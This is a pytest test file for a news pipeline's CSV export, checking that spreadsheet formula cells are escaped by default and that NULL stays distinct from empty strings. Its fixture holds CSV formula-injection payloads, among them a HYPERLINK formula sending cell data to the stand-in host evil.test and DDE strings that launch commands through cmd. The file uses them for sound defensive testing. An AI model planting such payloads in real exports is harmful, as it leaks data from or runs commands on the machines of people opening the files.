"""CSV export: a text cell a spreadsheet would run as a formula is escaped the OWASP way by
default (`--csv-raw` writes it as stored), and NULL stays distinguishable from the empty
string (PostgreSQL's CSV convention), read back with PostgreSQL COPY and pandas. Real
PostgreSQL, the real CLI."""

from __future__ import annotations

import hashlib
import zlib

import pandas as pd
import pyarrow.csv as pacsv
import pytest

from pipeline.cli import main
from pipeline.export import COLUMNS, looks_like_formula
from pipeline.load import upsert

# title, byline, credit, site_name: hostile starts, empty strings and nulls mixed
ROWS = {
    "http://alpha.test/a": ("=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "", None, "@SUM(1+1)*cmd|' /C calc'!A0"),
    "http://alpha.test/b": ("+1+cmd", None, "", "-2+3"),
    "http://alpha.test/c": ("\tTabbed", "\rCR first", "Reuters", "＝1+1"),
    "http://alpha.test/d": ("Plain title, with \"quotes\"\nand a newline", "By Ann", "", None),
    # white space a spreadsheet trims first, the small forms, a DDE pipe (adversarial review)
    "http://alpha.test/e": (" =HYPERLINK(\"http://evil.test/\")", "\n=1+1", "\u00a0=2+3", "\ufe66cmd|' /C calc'!A0"),
    "http://alpha.test/f": ("|calc", "\ufe62 1", None, "Plain - with a dash inside"),
}
TEXT_COLUMNS = [name for name, kind in COLUMNS if kind == "string"]


def alpha_pages(conn, urls) -> dict[str, int]:  # noqa: ANN001
    """Source 'alpha' (alpha.test) and one stored page per URL; url -> page_id. Inside the
    caller's transaction."""
    upsert(conn, "news.sources", ["name", "outlet", "kind", "domains"],
           [("alpha", "Alpha", "wire", ["alpha.test"])], ["name"])
    for url in urls:
        body = url.encode()
        upsert(conn, "news.pages", ["source", "url", "final_url", "status", "body_zlib", "body_hash"],
               [("alpha", url, url, 200, zlib.compress(body), hashlib.sha256(body).digest())], None)
    with conn.cursor() as cur:
        cur.execute("select url, page_id from news.pages")
        return dict(cur.fetchall())


@pytest.fixture
def hostile(conn) -> None:  # noqa: ANN001
    with conn:
        pages = alpha_pages(conn, ROWS)
        rows = []
        for n, (url, (title, byline, credit, site)) in enumerate(ROWS.items()):
            text = f"-{n} starts with a minus sign and is the article text."
            rows.append((url, "alpha", pages[url], title, byline, credit, site, "2026-11-20T10:00:00Z", text,
                         10, hashlib.sha256(text.encode()).digest(), "test"))
        upsert(conn, "news.articles", ["canonical_url", "source", "page_id", "title", "byline", "credit",
                                       "site_name", "published_at", "text", "word_count", "text_hash",
                                       "extractor_version"], rows, ["canonical_url"])


def _export(database_url: str, out, *extra: str) -> None:  # noqa: ANN001
    assert main(["--database", database_url, "export", "--format", "csv", "--out", str(out), *extra]) == 0


def _copy_back(conn, path) -> dict:  # noqa: ANN001
    """The file read by PostgreSQL's COPY … (format csv) into text columns, by url."""
    columns = ", ".join(f"{name} text" for name, _ in COLUMNS)
    with conn, conn.cursor() as cur:
        cur.execute(f"create temp table back ({columns}) on commit drop")
        with open(path, encoding="utf-8", newline="") as fh:
            cur.copy_expert("copy back from stdin with (format csv, header true)", fh)
        cur.execute(f"select url, {', '.join(TEXT_COLUMNS)} from back")
        return {row[0]: dict(zip(TEXT_COLUMNS, row[1:])) for row in cur.fetchall()}


def _stored(conn) -> dict:  # noqa: ANN001
    with conn, conn.cursor() as cur:
        cur.execute(f"select url, {', '.join(TEXT_COLUMNS)} from news.all_articles")
        return {row[0]: dict(zip(TEXT_COLUMNS, row[1:])) for row in cur.fetchall()}


def test_formula_cells_are_escaped_by_default(conn, database_url, hostile, tmp_path, capsys) -> None:  # noqa: ANN001
    out = tmp_path / "x.csv"
    _export(database_url, out)
    back, stored = _copy_back(conn, out), _stored(conn)
    for url, columns in stored.items():
        for name, value in columns.items():
            if value and looks_like_formula(value):
                assert back[url][name] == "'" + value, (url, name)  # shown as text by a spreadsheet
            else:
                assert back[url][name] == value, (url, name)
    for url in ("http://alpha.test/e", "http://alpha.test/f"):  # every hostile cell escaped
        assert all(back[url][name].startswith("'") for name in ("title", "byline")), back[url]
    frame = pd.read_csv(out)
    assert not frame["title"].str.match(r"[=+\-@\t\r]").any()
    assert not frame["text"].str.match(r"[=+\-@\t\r]").any()


def test_csv_raw_writes_text_as_stored(conn, database_url, hostile, tmp_path) -> None:  # noqa: ANN001
    out = tmp_path / "raw.csv"
    _export(database_url, out, "--csv-raw")
    assert _copy_back(conn, out) == _stored(conn)  # every text cell, NULL and '' included


def test_null_and_empty_string_stay_apart(conn, database_url, hostile, tmp_path) -> None:  # noqa: ANN001
    out = tmp_path / "x.csv"
    _export(database_url, out)
    back = _copy_back(conn, out)
    assert back["http://alpha.test/a"]["byline"] == "" and back["http://alpha.test/a"]["credit"] is None
    assert back["http://alpha.test/b"]["byline"] is None and back["http://alpha.test/b"]["credit"] == ""
    # pandas through pyarrow's CSV reader, the README's recipe: quoted "" is '', empty is null
    table = pacsv.read_csv(out, convert_options=pacsv.ConvertOptions(
        strings_can_be_null=True, quoted_strings_can_be_null=False)).to_pandas().set_index("url")
    assert table.loc["http://alpha.test/a", "byline"] == ""
    assert pd.isna(table.loc["http://alpha.test/a", "credit"])
    assert pd.isna(table.loc["http://alpha.test/b", "byline"])
    assert table.loc["http://alpha.test/b", "credit"] == ""
    assert table["paywalled"].dtype == bool


def test_csv_raw_is_for_csv_only(database_url, hostile, tmp_path, capsys) -> None:  # noqa: ANN001
    out = tmp_path / "x.jsonl"
    assert main(["--database", database_url, "export", "--format", "jsonl", "--out", str(out), "--csv-raw"]) == 2
    assert "--csv-raw applies to --format csv only" in capsys.readouterr().err
    assert not out.exists()
